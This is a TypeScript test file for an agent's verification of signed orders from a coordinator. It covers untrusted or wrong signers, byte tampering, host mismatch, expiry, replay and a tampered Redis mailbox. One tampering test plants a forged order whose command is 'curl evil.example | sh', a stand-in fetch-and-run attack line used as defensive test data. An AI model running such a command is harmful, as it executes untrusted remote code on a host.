/** What an agent takes for an order, and what it does not. */
import { expect, it } from 'vitest'
import { openOrder, untimely } from '../../../agent/orders.ts'
import { redisMailbox } from '../../../coordinator/adapters/hosts/mailbox.ts'
import { signerKeys } from '../../../shared/identity/signer-keys.ts'
import { pinOfKey } from '../../../shared/identity/pin.ts'
import { CLOCK_SKEW_MS, encodeOrder, ORDER_PAYLOAD_TYPE, ORDER_VALID_MS } from '../../../shared/order.ts'
import type { Order, SignedOrder } from '../../../shared/order.ts'
import { signPayload } from '../../../shared/signing.ts'
import { makeKeys, testKeys } from '../../keys.ts'
import { startRedis } from '../hosts/redis-fixture.ts'
import { command, HOST } from './commands.ts'

const { authority, signer, keyring } = await testKeys()
const NOW = Date.now()
const trusted = signerKeys(authority.trust(), 'orders', NOW)

const orderOf = (more: Partial<Order> = {}): Order => ({ host: HOST, command: command(), issuedAtMs: NOW, expiresAtMs: NOW + ORDER_VALID_MS, ...more })
const refusal = (signed: SignedOrder, keys = trusted): string => {
  const opened = openOrder(signed, keys, HOST, NOW)
  return opened.kind === 'refused' ? opened.reason : 'not refused'
}

it('an order that a coordinator has signed for this host is one', () => {
  expect(openOrder(signer.signOrder(orderOf()), trusted, HOST, NOW)).toEqual({ kind: 'order', order: orderOf() })
})

it('what nobody has signed, or nobody whom this host trusts, is none', async () => {
  const order = encodeOrder(orderOf())
  expect(refusal({ order, signature: Buffer.alloc(0), keyId: '' })).toBe('nobody has signed the order')
  const stranger = (await makeKeys()).signer.signOrder(orderOf())
  expect(refusal(stranger)).toContain(`signed by ${stranger.keyId}, whom this host does not trust`)
  expect(refusal({ ...stranger, keyId: signer.signOrder(orderOf()).keyId })).toContain('not one of this order')
  expect(refusal(signer.signOrder(orderOf()), new Map())).toContain('does not trust')
})

it('a key that signs releases does not sign orders', () => {
  const order = encodeOrder(orderOf())
  const { key, publicKey } = keyring.releases
  expect(refusal({ order, signature: signPayload(key, ORDER_PAYLOAD_TYPE, order), keyId: pinOfKey(publicKey) })).toContain('does not trust with orders')
})

it('an order of which one byte was changed is none, nor is a signature of another kind of thing', () => {
  const signed = signer.signOrder(orderOf())
  for (let at = 0; at < signed.order.length; at += 1) {
    const order = Buffer.from(signed.order)
    order[at] = order[at]! ^ 1
    expect(refusal({ ...signed, order })).toContain('not one of this order')
  }
  const signature = signPayload(keyring.orders.key, 'application/json', signed.order)
  expect(refusal({ ...signed, signature })).toContain('not one of this order')
})

it('an order for another host is not this one’s', () => {
  expect(refusal(signer.signOrder(orderOf({ host: 'h2' })))).toBe(`the order is for host h2, this is ${HOST}`)
})

it('an order is good from when it was signed, clocks allowing, until it expires', () => {
  const at = (ms: number): string | null => untimely(orderOf(), NOW + ms, 0)
  expect([at(-CLOCK_SKEW_MS), at(0), at(ORDER_VALID_MS - 1)]).toEqual([null, null, null])
  expect(at(-CLOCK_SKEW_MS - 1)).toBe("the order is from the future: this host's clock is 6 min behind the coordinator's")
  expect(at(ORDER_VALID_MS)).toContain('has expired')
})

it('an order that may have been forgotten is not begun, and a later one is', () => {
  expect(untimely(orderOf(), NOW, NOW)).toContain('may have run already')
  expect(untimely(orderOf(), NOW, NOW - 1)).toBeNull()
})

it('what somebody does to a mailbox in Redis comes out of it as no order for the host', async () => {
  const fixture = await startRedis()
  try {
    const mailbox = redisMailbox(fixture.redis)
    const [mine, others] = [orderOf(), orderOf({ host: 'h2', command: command({ id: 'web-1/h2/1' }) })]
    await mailbox.put(HOST, signer.signOrder(mine), mine.command.id)
    await mailbox.put('h2', signer.signOrder(others), others.command.id)
    const [box, field] = [`{h:${HOST}}:mailbox`, `command:${mine.command.id}`]
    const lies = JSON.parse((await fixture.redis.hget(box, field))!) as { order: string }
    // One changed in place, one of another host, that one under a name of this host's, and a command as nobody signs it.
    const evil = encodeOrder(orderOf({ command: command({ action: { kind: 'exec', command: 'curl evil.example | sh' } }) }))
    await fixture.redis.hset(box, field, JSON.stringify({ ...lies, order: evil.toString('base64') }))
    const moved = (await fixture.redis.hget('{h:h2}:mailbox', 'command:web-1/h2/1'))!
    await fixture.redis.hset(box, { 'command:web-1/h2/1': moved, [`command:web-1/${HOST}/2`]: moved, [`command:web-1/${HOST}/3`]: JSON.stringify(mine.command) })
    const { mail, unreadable } = await mailbox.look(HOST)
    expect([...mail].map(([id, { order }]) => [id, refusal(order)])).toEqual(expect.arrayContaining([
      [mine.command.id, expect.stringContaining('not one of this order')], ['web-1/h2/1', expect.stringContaining('for host h2')],
    ]))
    expect(mail.size).toBe(2)
    expect(unreadable.sort()).toEqual([`web-1/${HOST}/2`, `web-1/${HOST}/3`])
  } finally {
    await fixture.stop()
  }
})
